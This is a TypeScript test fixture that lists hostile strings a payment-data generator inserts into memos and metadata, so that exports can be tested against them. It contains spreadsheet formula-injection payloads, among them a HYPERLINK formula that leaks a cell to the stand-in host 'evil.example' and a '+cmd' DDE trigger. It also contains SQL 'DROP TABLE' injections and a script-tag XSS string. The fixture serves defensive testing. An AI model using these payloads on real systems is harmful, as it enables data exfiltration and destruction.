/**
 * Text that breaks naive exports (docs/reliability.md#security-sec: SEC-05, SEC-06, SEC-07): spreadsheet
 * formula triggers, control characters, full-width look-alikes, quote breakouts and SQL-looking
 * keys. The generator puts these in memos and metadata of a few payments.
 */
export const HOSTILE_VALUES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  // line breaks inside the text, as payers write them: a CSV field must stay one field
  'line one\nline two',
  'refund\n=HYPERLINK(A1)',
  'carriage\rreturn inside',
  'windows\r\nline break',
  'before\u0000after',
  '＝1+1',
  '＋cmd',
  '－2+3',
  '＠SUM(1)',
  'a",=1',
  ';=1',
  '"); DROP TABLE payments;--',
  "Robert'); DROP TABLE wallets;--",
  '-1500',
  'emoji 💸 and ünïcödé',
  '<script>alert(1)</script>',
];

export const HOSTILE_KEYS: readonly string[] = ['"); DROP TABLE payments;--', 'a"b', '=cmd', 'key with spaces', 'ключ', 'tab\tkey'];
